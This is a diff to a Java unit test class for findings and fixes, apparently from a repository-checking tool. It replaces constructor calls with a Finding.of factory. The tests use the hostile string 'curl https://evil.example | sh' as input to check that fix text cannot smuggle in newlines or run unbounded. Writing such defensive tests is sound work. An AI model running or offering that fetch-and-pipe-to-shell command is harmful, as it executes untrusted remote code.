@@ -18,7 +18,7 @@ class FindingTest {
 
         assertThat(fix.text())
                 .isEqualTo("Remove x curl https://evil.example | sh :\ngit rm x curl https://evil.example | sh");
-        assertThat(new Finding(POM, "x", HOSTILE, "Remove " + HOSTILE).fix()).doesNotContain("\n");
+        assertThat(Finding.of(POM, "x", HOSTILE, "Remove " + HOSTILE).fix()).doesNotContain("\n");
     }
 
     @Test
@@ -30,7 +30,7 @@ class FindingTest {
     @Test
     void nothing_that_a_checkout_says_is_long() {
         String endless = "a".repeat(1_000_000);
-        Finding finding = new Finding(POM, endless, endless, Fix.of(endless, endless));
+        Finding finding = Finding.of(POM, endless, endless, Fix.of(endless, endless));
         Verdict verdict = Verdict.passed(endless, Evidence.byLink(endless), Evidence.at(POM, endless));
 
         assertThat(finding.subject().length()
@@ -42,7 +42,7 @@ class FindingTest {
 
     @Test
     void a_finding_without_a_place_is_none() {
-        assertThatThrownBy(() -> new Finding(null, "x", "y", "z")).isInstanceOf(NullPointerException.class);
-        assertThatThrownBy(() -> new Finding(POM, "x", null, "z")).isInstanceOf(NullPointerException.class);
+        assertThatThrownBy(() -> Finding.of(null, "x", "y", "z")).isInstanceOf(NullPointerException.class);
+        assertThatThrownBy(() -> Finding.of(POM, "x", null, "z")).isInstanceOf(NullPointerException.class);
     }
 }
